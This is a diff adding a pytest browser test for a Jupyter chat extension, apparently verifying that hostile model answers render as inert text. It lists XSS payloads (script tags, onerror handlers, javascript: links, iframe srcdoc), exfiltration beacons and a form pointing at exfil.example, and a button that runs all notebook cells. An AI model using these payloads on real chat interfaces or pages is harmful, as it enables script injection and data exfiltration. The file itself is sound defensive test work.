@@ -1,0 +1,93 @@
+"""Whatever a model says stays text."""
+
+from __future__ import annotations
+
+import json
+import os
+from itertools import groupby
+from pathlib import Path
+
+import pytest
+
+from .conftest import OpenLab
+from .notebooks import chat_with
+from .pages import Watch, until
+
+CLASSICS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![pixel](https://exfil.example/pixel.png?q=secret)",
+    "![here](/api/kernels)",
+    "[click](javascript:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<style>@import 'https://exfil.example/a.css'; * { display: none }</style>",
+    "<form action=https://exfil.example><input name=q><button>Send</button></form>",
+    "<svg><script>alert(1)</script></svg>",
+    "<div id=main data-jp-theme-light=false onclick=alert(1)>text</div>",
+    '<button data-commandlinker-command="notebook:run-all-cells">Show full answer</button>',
+    '[ref]: javascript:alert(1)\n\n[click][ref] <https://exfil.example> ```js\nalert(1)\n```',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
+]
+
+CORPUS = Path(
+    os.environ.get("IPYCHAT_CORPUS", Path(__file__).parents[3] / "shared" / "corpus")
+) / "chat_payloads.json"
+
+_AUDIT = """root => {
+    const tags = new Set(("a b blockquote br button code del details div em h1 h2 h3 h4 h5 h6 header"
+        + " hr i img input li ol p path polyline pre rect line circle s section span strong sub"
+        + " summary sup svg table tbody td th thead tr ul").split(" "));
+    const images = /^(blob:|data:image\\/(png|jpeg|gif|webp)[;,])/;
+    const names = new Set(("class dir title alt start align scope open disabled checked rel target"
+        + " referrerpolicy type role tabindex colspan rowspan loading decoding").split(" "));
+    const found = [];
+    for (const element of root.querySelectorAll(".ipychat-message-body *")) {
+        const tag = element.localName;
+        if (!tags.has(tag)) found.push(`<${tag}>`);
+        if (element.closest("svg")) continue;
+        for (const { name, value } of element.attributes) {
+            const isFine = name === "href" ? ["http:", "https:", "mailto:"].includes(element.protocol)
+                : name === "src" ? tag === "img" && images.test(value)
+                : name === "class" ? value.split(" ").every(one => one.startsWith("ipychat-"))
+                : name === "type" ? ["button", "checkbox"].includes(value)
+                : names.has(name) || name.startsWith("aria-");
+            if (!isFine) found.push(`<${tag} ${name}="${value}">`);
+        }
+    }
+    return found;
+}"""
+
+
+def test_hostile_answers_stay_text(lab: OpenLab) -> None:
+    _recite(lab, CLASSICS)
+
+
+@pytest.mark.skipif(not CORPUS.exists(), reason=f"NO CORPUS OF HOSTILE TEXTS at {CORPUS}")
+def test_answers_of_a_hostile_corpus_stay_text(lab: OpenLab) -> None:
+    payloads = json.loads(CORPUS.read_text(encoding="utf-8"))["payloads"]
+    texts: list[str] = []
+    for _, group in groupby(payloads, key=lambda payload: payload["cls"]):
+        ofclass = [payload["s"] for payload in group if isinstance(payload.get("s"), str)]
+        texts += ofclass[:: max(1, len(ofclass) // 4)][:4]
+    _recite(lab, texts)
+
+
+def _recite(lab: OpenLab, texts: list[str]) -> None:
+    notebook = lab(chat_with("recite"), "1 + 1")
+    chat, page = notebook.chat, notebook.page
+    prompts, tabs = notebook.prompts(), page.locator(".lm-TabBar-tab").count()
+    watch = Watch(page)
+    file = f"{notebook.name}.json"
+    (notebook.server.root / file).write_text(json.dumps(texts), encoding="utf-8")
+
+    chat.submit(file)
+    until(page, lambda: chat.replies.count() == len(texts), "all answers")
+    chat.reply(len(texts) - 1)
+
+    for body in chat.replies.locator(".ipychat-message-body").all():
+        body.click(position={"x": 4, "y": 4})
+    assert chat.root.evaluate(_AUDIT) == []
+    assert [url for url in watch.loaded if not url.startswith(("blob:", "data:"))] == []
+    assert (notebook.prompts(), page.locator(".lm-TabBar-tab").count()) == (prompts, tabs)
+    assert len(page.context.pages) == 1
